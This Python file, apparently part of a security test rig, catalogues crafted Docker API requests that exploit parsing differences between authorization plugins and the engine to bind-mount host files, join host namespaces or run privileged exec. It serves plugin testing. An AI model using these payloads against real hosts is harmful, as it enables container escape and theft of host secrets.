# SPDX-License-Identifier: GPL-3.0-or-later
"""Requests that a plugin and the engine may read differently."""

from rig.effect import answers_match, joins, prints
from rig.row import EMPTY, JSON, NEW, OLD, START, TEXT, WAIT, attack, create, post, raw, run_text

TITLE = "Requests that two readers read differently"

READ = '"Image":"busybox:1","Cmd":["cat","/x/secret"]'
BIND = '["$HOST:/x"]'
NONE = '"NetworkMode":"none"'
NET = '"Image":"busybox:1","Cmd":["readlink","/proc/self/ns/net"]'
CREATE = "/v1.41/containers/create?name=$NAME"


def bind(name, gives, body, rules="bind-mounts", **more):
    """A container that reads the host's secret by a bind."""
    of_request = {key: more.pop(key) for key in ("target", "headers", "chunked") if key in more}
    return attack(name, gives, run_text(spelt(body), **of_request), prints("$SECRET"), rules, **more)


def spelt(body):
    return body.replace("READ", READ).replace("NONE", NONE).replace("@BIND", BIND)


def padding(megabytes):
    return '{READ,"Labels":{"pad":"' + "x" * (megabytes << 20) + '"},"HostConfig":{NONE,"Binds":@BIND}}'


def no_text(_, names):
    return names.fill(spelt('{READ,"Labels":{"a":"?"},"HostConfig":{NONE,"Binds":@BIND}}')).encode().replace(b"?",
                                                                                                             b"\xff")


PLAIN = '{READ,"HostConfig":{NONE,"Binds":@BIND}}'

HEAD = ("POST /v1.41/containers/create?name=$NAME HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n"
        "Content-Length: $LENGTH\r\n\r\n")

ATTACKS = [
    bind("key-folded", "a host path by a key in other letters", '{READ,"hostconfig":{NONE,"BINDS":@BIND}}'),
    bind("key-folded-outside", "a host path below a key in other letters",
         '{READ,"hOSTcONFIG":{NONE,"Binds":@BIND}}'),
    bind("key-escaped", "a host path by a key whose first letter is an escape",
         r'{READ,"HostConfig":{NONE,"\u0042inds":@BIND}}'),
    bind("key-escaped-whole", "a host path by keys of nothing but escapes",
         '{READ,"' + "".join(f"\\u{ord(c):04x}" for c in "HostConfig") + '":{NONE,"' +
         "".join(f"\\u{ord(c):04X}" for c in "binds") + '":@BIND}}'),
    attack("key-long-s", "a namespace of the host by a key with the long s, which Go folds to s",
           run_text('{"Image":"busybox:1","Cmd":["readlink","/proc/self/ns/uts"],"HostConfig":{' + NONE +
              ',"UT\u017fMode":"host"}}'), joins("uts"), "host-namespaces"),
    attack("key-long-s-escaped", "the same as an escape",
           run_text('{"Image":"busybox:1","Cmd":["readlink","/proc/self/ns/uts"],"Ho\\u017ftConfig":{' + NONE +
              ',"UT\\u017fMode":"host"}}'), joins("uts"), "host-namespaces"),
    attack("key-kelvin", "the host's network by a key with the sign of kelvin, which Go folds to k",
           run_text('{' + NET + ',"HostConfig":{"Networ\u212aMode":"host"}}'), joins("net"), "host-namespaces"),
    attack("key-kelvin-escaped", "the same as an escape",
           run_text('{' + NET + ',"HostConfig":{"Networ\\u212amode":"host"}}'), joins("net"), "host-namespaces"),
    bind("key-repeated", "a host path by the second of two equal keys",
         '{READ,"HostConfig":{NONE,"Binds":[],"Binds":@BIND}}', "ambiguous"),
    bind("key-repeated-folded", "a host path by the second of two keys that are one to Go",
         '{READ,"HostConfig":{NONE,"Binds":[],"binds":@BIND}}', "ambiguous"),
    bind("object-repeated", "a host path by an object that Go lays over the first of its name",
         '{READ,"HostConfig":{NONE,"Binds":@BIND},"HostConfig":{"Memory":0}}', "ambiguous"),
    bind("object-repeated-last", "a host path by the second of two objects",
         '{READ,"HostConfig":{NONE},"hostConfig":{"Binds":@BIND}}', "ambiguous"),
    attack("null-after", "a namespace of the host that a null after it leaves in force",
           run_text('{"Image":"busybox:1","Cmd":["readlink","/proc/self/ns/uts"],"HostConfig":{' + NONE +
                    ',"UTSMode":"host","UTSMode":null}}'), joins("uts"), "ambiguous"),
    bind("escape-beside", "a host path by an escaped key beside the plain one",
         r'{READ,"HostConfig":{NONE,"Binds":[],"Bin\u0064s":@BIND}}', "ambiguous"),
    bind("top-level", "a host path beside HostConfig, where older engines read it too",
         '{READ,"Binds":@BIND,"NetworkMode":"none"}', engines=OLD),
    bind("top-level-folded", "the same in other letters",
         '{READ,"bINDS":@BIND,"networkmode":"none"}', engines=OLD),
    attack("top-level-network", "the host's network beside HostConfig, where older engines read it too",
           run_text("{" + NET + ',"NetworkMode":"host"}'), joins("net"), "host-namespaces", engines=OLD),
    bind("null-host-config", "a host path beside a HostConfig of null",
         '{READ,"HostConfig":null,"Binds":@BIND,"NetworkMode":"none"}', engines=OLD),
    bind("chunked", "a host path in a body whose length is not told", PLAIN, chunked=True),
    bind("content-type-charset", "a host path in JSON with a parameter of its type", PLAIN,
         headers=(("Content-Type", "application/json; charset=utf-8"),)),
    bind("content-type-capitals", "a host path in JSON whose type is in capitals", PLAIN,
         headers=(("Content-Type", "Application/JSON"),)),
    bind("content-type-twice", "a host path in JSON after a second type, which hides it from plugins", PLAIN,
         "content-type", headers=(JSON, TEXT)),
    bind("padded-to-1-mib", "a host path at the end of a body over a mebibyte", padding(1), "body-missing",
         engines=OLD, instead={"28.5": "bind-mounts"}),
    bind("query-auth", "a host path in a body that engines withhold when the target ends in /auth", PLAIN,
         "body-missing", target=CREATE + "&x=/auth"),
    bind("target-absolute", "a host path by a target with scheme and host", PLAIN,
         target="http://docker" + CREATE),
    bind("path-escaped", "a host path by an escaped path", PLAIN,
         target="/v1.41/containers/%63reate?name=$NAME"),
    bind("path-escaped-version", "a host path by an escaped version",
         PLAIN, target="/%761.41/containers/create?name=$NAME"),
    bind("path-without-version", "a host path without a version", PLAIN,
         target="/containers/create?name=$NAME"),
    bind("path-old-version", "a host path by the oldest version of the API", PLAIN,
         target="/v1.24/containers/create?name=$NAME"),
    bind("path-version-12", "a host path by version 1.12 of the API", PLAIN,
         target="/v1.12/containers/create?name=$NAME", engines=OLD, refused=NEW),
    bind("query-name-twice", "a host path with a parameter given twice", PLAIN, "ambiguous",
         target=CREATE + "&name=other"),
    bind("query-escaped-name", "a host path with an escaped parameter", PLAIN,
         target="/v1.41/containers/create?n%61me=$NAME"),
    bind("query-fragment", "a host path with a fragment, at which some readers stop", PLAIN, "ambiguous",
         target="/v1.41/containers/create?x=1#&name=$NAME"),
    bind("trailing-white-space", "a host path in a body with white space around", " \n\t" + PLAIN + "\r\n  "),
    bind("deep-label", "a host path after a value that no reader expects",
         '{READ,"Nothing":' + "[" * 70 + "]" * 70 + ',"HostConfig":{NONE,"Binds":@BIND}}', "ambiguous"),
    bind("half-a-surrogate", "a host path beside half a character, which Go replaces",
         '{READ,"Hostname":"\\ud83d","HostConfig":{NONE,"Binds":@BIND}}', "ambiguous"),
    attack("invalid-utf-8", "a host path beside bytes that are no text, which Go replaces",
           (post(CREATE, no_text), START, WAIT), prints("$SECRET"), "ambiguous"),
    bind("chunked-and-length", "a host path in chunks that a length of none beside them denies", PLAIN, chunked=True,
         headers=(JSON, EMPTY), instead={"20.10": "bind-mounts", "28.5": "bind-mounts"}),
    bind("header-folded", "a host path whose Content-Type is on a line of its own", PLAIN,
         headers=(("Content-Type", "\r\n application/json"),)),
    bind("header-lower-case", "a host path with headers in lower case", PLAIN,
         headers=(("content-type", "application/json"),)),
    bind("content-type-tab", "a host path in JSON with white space around its type", PLAIN,
         headers=(("Content-Type", "\t application/json ; x=y \t"),)),
    bind("content-type-twice-json", "a host path in JSON that is said to be so twice", PLAIN, headers=(JSON, JSON)),
    bind("expect", "a host path in a body that is sent once it is asked for", PLAIN,
         headers=(JSON, ("Expect", "100-continue"))),
    attack("pipelined", "a host path behind a harmless question, in one go",
           (raw("GET /_ping HTTP/1.1\r\nHost: docker\r\n\r\n" + HEAD + spelt(PLAIN)), START, WAIT), prints("$SECRET"),
           "bind-mounts"),
    attack("http-1-0", "a host path by the older protocol",
           (raw(HEAD.replace("HTTP/1.1", "HTTP/1.0") + spelt(PLAIN)), START, WAIT), prints("$SECRET"), "bind-mounts"),
    attack("bare-line-feeds", "a host path behind headers whose lines end in half",
           (raw(HEAD.replace("\r\n", "\n") + spelt(PLAIN)), START, WAIT), prints("$SECRET"), "bind-mounts"),
    bind("path-long-version", "a host path by a version with more numbers", PLAIN, "malformed",
         target="/v1.41.0/containers/create?name=$NAME"),
    bind("path-version-zeros", "a host path by a version with zeros", PLAIN,
         target="/v01.041/containers/create?name=$NAME"),
    bind("path-trailing-question", "a host path with empty parameters", PLAIN, target=CREATE + "&&=&x"),
    bind("key-in-mount-twice", "a host path by the second of two keys of a mount",
         '{READ,"HostConfig":{NONE,"Mounts":[{"Type":"volume","Source":"$HOST","Target":"/x","type":"bind"}]}}',
         "ambiguous"),
    bind("key-in-mount-escaped", "a host path by escaped keys of a mount",
         r'{READ,"HostConfig":{NONE,"Mounts":[{"\u0054ype":"bin\u0064","\u0073ource":"$HOST","Target":"/x"}]}}'),
    bind("value-escaped", "a host path by a value of escapes",
         r'{READ,"HostConfig":{NONE,"Binds":["\u002fsrv\u002fhost:\u002fx"]}}'),
    attack("start-with-binds-chunked", "a host path by the start of a harmless container, its length not told",
           (create(cmd="cat /x/secret"),
            post("/v1.23/containers/$NAME/start", '{"Binds":["$HOST:/x"],"NetworkMode":"none"}',
                                              chunked=True), WAIT), prints("$SECRET"), "bind-mounts", engines=OLD),
    attack("start-with-binds-long-version", "the same by a version with more numbers",
           (create(cmd="cat /x/secret"),
            post("/v1.23.9/containers/$NAME/start", '{"Binds":["$HOST:/x"],"NetworkMode":"none"}'),
            WAIT), prints("$SECRET"), "malformed", engines=OLD),
    attack("exec-folded", "every capability by a key in other letters",
           (post("/v1.41/containers/web/exec",
                 '{"attachSTDOUT":true,"Cmd":["grep","CapEff","/proc/self/status"],"priVILEGED":true}',
                 keeps="$EXEC"), post("/v1.41/exec/$EXEC/start", {"Detach": False})),
           answers_match("CapEff:\\s*[0-9a-f]{8}f"), "privileged", engines=NEW),
    attack("volume-folded", "a host path by a volume's keys in other letters",
           (post("/v1.41/volumes/create", '{"nAME":"$NAME","driverOPTS":{"type":"none","o":"bind","device":"$HOST"}}'),
            *run_text(spelt('{READ,"HostConfig":{NONE,"Binds":["$NAME:/x"]}}'))),
           prints("$SECRET"), "bind-mounts volumes"),
    bind("trailing-data", "a host path before a second document, which older engines leave unread",
         PLAIN + ' {"HostConfig":{"Binds":[]}}', "ambiguous", engines=OLD),
]
